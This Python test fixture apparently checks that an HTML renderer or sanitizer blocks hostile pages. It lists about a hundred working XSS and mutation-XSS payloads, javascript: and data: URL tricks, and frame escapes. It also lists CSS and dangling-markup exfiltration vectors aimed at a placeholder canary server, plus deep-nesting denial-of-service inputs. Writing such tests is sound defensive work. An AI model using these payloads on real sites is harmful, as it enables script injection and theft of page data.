"""Pages that try to run a script, to fetch something, or to leave the frame that shows them.

`CANARY` is replaced by the address of a server that no report may ask for anything. A script that runs
says so on the console with `RAN`.
"""

RAN = "templ-script-ran"
_RUN = f"console.log('{RAN}')"

HOSTILE = {
    "script": f"<script>{_RUN}</script>",
    "script of another host": "<script src=CANARY/x.js></script>",
    "module script": f"<script type=module>{_RUN};import 'CANARY/m.js'</script>",
    "script in a comment's end": f"<!-- --!><script>{_RUN}</script>",
    "script in a title": f"<title></title><script>{_RUN}</script></title>",
    "script in a textarea": f"<textarea></textarea><script>{_RUN}</script></textarea>",
    "script in noscript": f"<noscript><p title='</noscript><script>{_RUN}</script>'></noscript>",
    "script in a style": f"<style></style><script>{_RUN}</script></style>",
    "script in a style string": f"<style>a[b='</style><script>{_RUN}</script>']{{color:red}}</style>",
    "script in a template": f"<template><script>{_RUN}</script></template>",
    "script in a select": f"<select><script>{_RUN}</script></select>",
    "script in a table": f"<table><script>{_RUN}</script><tr><td>x</table>",
    "script in xmp": f"<xmp></xmp><script>{_RUN}</script></xmp>",
    "script after plaintext": f"<p>x<script>{_RUN}</script><plaintext></body></html>",
    "script in an svg": f"<svg><script>{_RUN}</script></svg>",
    "script of an svg": "<svg><script href=CANARY/s.js></script></svg>",
    "script in a foreign object": f"<svg><foreignObject><script>{_RUN}</script></foreignObject></svg>",
    "script in math": f"<math><mtext><script>{_RUN}</script></mtext></math>",
    "mutation by a style in math": (
        f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;"
        f"&lt;img src=1 onerror={_RUN}&gt;'>"
    ),
    "mutation by a form in a table": (
        f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={_RUN}>"
    ),
    "mutation by noscript": f"<noscript><style></noscript><img src=x onerror={_RUN}>",
    "handler of an image": f"<img src=x onerror={_RUN}>",
    "handler of a body": f"<body onload={_RUN}><p>x",
    "handler of a page shown": f"<body onpageshow={_RUN}><p>x",
    "handler of a focus": f"<p tabindex=1 autofocus onfocus={_RUN}>x",
    "handler of an animation": (
        f"<style>@keyframes k{{}}</style><p style='animation:k 1ms' onanimationstart={_RUN}>x"
    ),
    "handler of a details": f"<details open ontoggle={_RUN}>x</details>",
    "handler of an svg": f"<svg onload={_RUN}><rect/></svg>",
    "handler of an svg animation": f"<svg><animate onbegin={_RUN} attributeName=x dur=1s /></svg>",
    "handler of a video": f"<video><source onerror={_RUN} src=x></video>",
    "handler of a marquee": f"<marquee onstart={_RUN}>x</marquee>",
    "handler behind a broken quote": f'<p title="a" x="\'><img src=x onerror={_RUN}>">x',
    "handler in a class": f"<p class='\"><img src=x onerror={_RUN}>'>x",
    "handler in an id": f"<p id='templ-s0\"><img src=x onerror={_RUN}>'>x",
    "handler in an alternative text": f"<img alt='\"><img src=x onerror={_RUN}>'>",
    "handler in text": f"<p>&lt;img src=x onerror={_RUN}&gt; and &quot;&gt;&lt;script&gt;{_RUN}&lt;/script&gt;",
    "handler in a link": f"<link rel=stylesheet href=x onerror={_RUN}>",
    "javascript link": f"<a href='javascript:{_RUN}' autofocus>x</a>",
    "javascript frame": f"<iframe src='javascript:{_RUN}'></iframe>",
    "javascript object": f"<object data='javascript:{_RUN}'></object>",
    "javascript embed": f"<embed src='javascript:{_RUN}'>",
    "javascript refresh": f'<meta http-equiv=refresh content="0;url=javascript:{_RUN}">',
    "javascript form": f"<form action='javascript:{_RUN}'><button autofocus>x</button></form>",
    "javascript in an svg link": f"<svg><a href='javascript:{_RUN}'><text>x</text></a></svg>",
    "data link": f"<a href='data:text/html,<script>{_RUN}</script>'>x</a>",
    "data frame": f"<iframe src='data:text/html,<script>{_RUN}</script>'></iframe>",
    "data object": f"<object data='data:text/html,<script>{_RUN}</script>'></object>",
    "data image of svg": (
        f"<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>\">"
    ),
    "data image with a quote": f"<img src='data:image/png;base64,AA\" onerror=\"{_RUN}'>",
    "srcdoc": f"<iframe srcdoc='<script>{_RUN};top.document.title=1</script>'></iframe>",
    "srcdoc escaped twice": f"<iframe srcdoc='&amp;lt;script&amp;gt;{_RUN}&amp;lt;/script&amp;gt;'></iframe>",
    "end of the frame": f'</body></html>"></iframe><script>{_RUN}</script>',
    "escaped end of the frame": f"<p>&quot;&gt;&lt;/iframe&gt;&lt;script&gt;{_RUN}&lt;/script&gt;",
    "frameset": "<frameset><frame src=CANARY/f></frameset>",
    "frame": "<iframe src=CANARY/i></iframe>",
    "fenced frame": "<fencedframe src=CANARY/ff></fencedframe><portal src=CANARY/p></portal>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=CANARY/r'>",
    "base": "<base href=CANARY/ target=_top><img src=b.png><a href=x>x</a>",
    "image": "<img src=CANARY/i.png>",
    "image set": "<img srcset='CANARY/s.png 1x'><picture><source srcset=CANARY/p.png><img></picture>",
    "input image": "<input type=image src=CANARY/ii.png>",
    "background attribute": "<body background=CANARY/b.png><table background=CANARY/t.png><td>x",
    "video": "<video autoplay src=CANARY/v.mp4 poster=CANARY/p.png></video>",
    "audio": "<audio autoplay src=CANARY/a.mp3></audio>",
    "track": "<video src=x><track default src=CANARY/t.vtt></video>",
    "object": "<object data=CANARY/o></object><embed src=CANARY/e><applet code=CANARY/c></applet>",
    "svg image": "<svg><image href=CANARY/si.png /><use href=CANARY/u.svg#x /></svg>",
    "svg style": "<svg><style>@import 'CANARY/ss.css';</style></svg>",
    "style sheet": "<link rel=stylesheet href=CANARY/l.css>",
    "style import": "<style>@import url(CANARY/c.css); @import 'CANARY/d.css';</style>",
    "style import behind escapes": "<style>@\\69mport 'CANARY/e.css'; @im\\port 'x';</style>",
    "style background": "<style>body{background:url(CANARY/bg.png)}</style><p>x",
    "style image set": "<style>p{background:image-set('CANARY/is.png' 1x)}</style><p>x",
    "style url in a variable": "<style>p{--a:url(CANARY/v.png);background:var(--a)}</style><p>x",
    "style url behind escapes": "<style>p{background:\\75rl(CANARY/esc.png)}</style><p>x",
    "style content": "<style>p::before{content:url(CANARY/ct.png)}</style><p>x",
    "style cursor": "<style>*{cursor:url(CANARY/cu.png),auto}</style><p>x",
    "style list image": "<ul style='list-style:url(CANARY/li.png)'><li>x</ul>",
    "style mask": "<p style='mask:url(CANARY/m.svg#x);filter:url(CANARY/f.svg#x)'>x",
    "style font": "<style>@font-face{font-family:F;src:url(CANARY/f.woff)}p{font-family:F}</style><p>x",
    "style attribute": "<p style='background:url(\"CANARY/sa.png\")'>x",
    "style attribute with an end": "<p style='color:red}</style><img src=CANARY/se.png>'>x",
    "style in a media rule": "<style>@media all{p{background:url(CANARY/mr.png)}}</style><p>x",
    "style in a supports rule": "<style>@supports(color:red){p{background:url(CANARY/sr.png)}}</style><p>x",
    "style nested": "<style>div{p{background:url(CANARY/ne.png)}}</style><div><p>x</div>",
    "style of a selector": (
        "<style>p[title^=a]{background:url(CANARY/a.png)}</style><p title=abc>secret"
    ),
    "prefetch": "<link rel=prefetch href=CANARY/pf><link rel=preload as=script href=CANARY/pl>",
    "preconnect": "<link rel=preconnect href=CANARY/><link rel=dns-prefetch href=CANARY/>",
    "prerender": "<link rel=prerender href=CANARY/pr><link rel=modulepreload href=CANARY/mp>",
    "manifest": "<link rel=manifest href=CANARY/mf><link rel=icon href=CANARY/ic>",
    "form": "<form action=CANARY/fo><input autofocus><button formaction=CANARY/fb>x</button></form>",
    "ping": "<a href=CANARY/h ping=CANARY/pg>x</a>",
    "map": "<map name=m><area href=CANARY/ar shape=default></map><img usemap=#m>",
    "xml processing instruction": "<?xml-stylesheet href='CANARY/x.css'?><p>x",
    "speculation rules": (
        '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["CANARY/sp"]}]}</script>'
    ),
    "null bytes": f"<scr\0ipt>{_RUN}</scr\0ipt><p>x\0y",
    "deep nesting": "<div>" * 600 + f"<script>{_RUN}</script>x",
    "deep style": "<style>" + "p{" * 3000 + "</style><p>x",
    "deep functions": "<p style='width:" + "calc(" * 3000 + "'>x",
    "own names": "<style>.templ-k{font-size:0!important}#templ-s0{color:red}</style><p class=templ-r id=templ-s1>x",
    "hiding": "<style>p{display:none;margin:-999px;width:0;visibility:hidden;opacity:0}</style><p>x",
    "dangling markup": "<p>x<img src='CANARY/dm?",
    "import map": '<script type=importmap>{"imports":{"a":"CANARY/im"}}</script><p>x',
    "web socket and worker": f"<script>new WebSocket('ws://x');{_RUN}</script><p>x",
}
"""The pages by what they try."""


def hostile_page(name: str, canary: str) -> str:
    """Return a hostile page with enough text around it that it is a page at all."""
    story = "The council met on Monday, and it said that the bridge stays open until May. " * 3
    attack = HOSTILE[name].replace("CANARY", canary)
    return f"<!DOCTYPE html><title>{name}</title><p>{story}</p>{attack}<p>The end of the story is here."
